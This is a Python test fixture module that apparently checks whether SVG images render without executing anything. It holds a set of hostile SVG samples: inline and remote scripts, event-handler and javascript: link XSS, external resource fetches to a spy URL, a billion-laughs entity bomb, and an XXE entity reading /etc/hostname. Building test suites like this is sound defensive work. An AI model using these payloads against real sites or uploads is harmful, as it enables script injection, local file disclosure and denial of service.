"""Drawings that would run or fetch something, if they were more than images."""

import base64
from io import BytesIO
from itertools import pairwise

from PIL import Image

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
_RED = '<rect width="90" height="60" fill="#f00"/>'


def svg(inner, more=""):
    return f'{_SVG}width="90" height="60" {more}>{_RED}{inner}</svg>'


RUN = "parent.hacked=top.hacked=window.hacked=1;alert(1)"
AWAY = "https://example.org/spy"
_SET = f'<set attributeName="x" onbegin="{RUN}"/>'
_INNER = base64.b64encode(svg(f"<script>{RUN}</script>").encode()).decode()
_BOMB = '<!ENTITY a "aaaaaaaaaa">'
_BOMB += "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise("abcdefghi"))
_FILE = '<!ENTITY a SYSTEM "file:///etc/hostname">'
SVGS = {
    "plain": svg(""),
    "script": svg(f"<script>{RUN}</script>"),
    "script from elsewhere": svg(f'<script href="{AWAY}.js"/><script xlink:href="{AWAY}.js"/>'),
    "onload": svg("", f'onload="{RUN}"'),
    "event handlers": svg(f'<image href="x" onerror="{RUN}"/>{_SET}'),
    "foreignObject": svg(
        '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        f'<script>{RUN}</script><img src="{AWAY}.png" onerror="{RUN}"/><iframe src="{AWAY}"/>'
        "</body></foreignObject>"
    ),
    "use": svg(f'<use href="{AWAY}.svg#a"/><use href="data:image/svg+xml;base64,{_INNER}#a"/>'),
    "image": svg(f'<image href="{AWAY}.png" width="9" height="9"/><feImage href="{AWAY}.png"/>'),
    "sheets": svg(
        f"<style>@import url({AWAY}.css); @font-face {{font-family:a;src:url({AWAY}.woff)}}"
        f" rect {{fill:#f00;mask:url({AWAY}.svg#m)}}</style><text font-family='a'>a</text>"
    ),
    "a sheet before": f'<?xml version="1.0"?><?xml-stylesheet href="{AWAY}.css"?>' + svg(""),
    "links": svg(f'<a href="javascript:{RUN}"><text>x</text></a>'),
    "animated link": svg(
        f'<a><animate attributeName="href" values="javascript:{RUN}"/><text>x</text></a>'
    ),
    "entity bomb": f"<!DOCTYPE svg [{_BOMB}]>{svg('<text>&i;</text>')}",
    "entity of a file": f"<!DOCTYPE svg [{_FILE}]>{svg('<text>&a;</text>')}",
    "torn": svg("<g>"),
    "HTML": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>",
    "out of its place": f'"><script>{RUN}</script>{svg("")}',
}  # fmt: skip
TORN = {"entity bomb", "entity of a file", "torn", "HTML", "out of its place"}  # no browser draws


def pixels(screen):
    """How many red pixels a picture of the screen has."""
    image = Image.open(BytesIO(screen)).convert("RGB")
    return sum(count for count, colour in image.getcolors(1 << 24) if colour == (255, 0, 0))
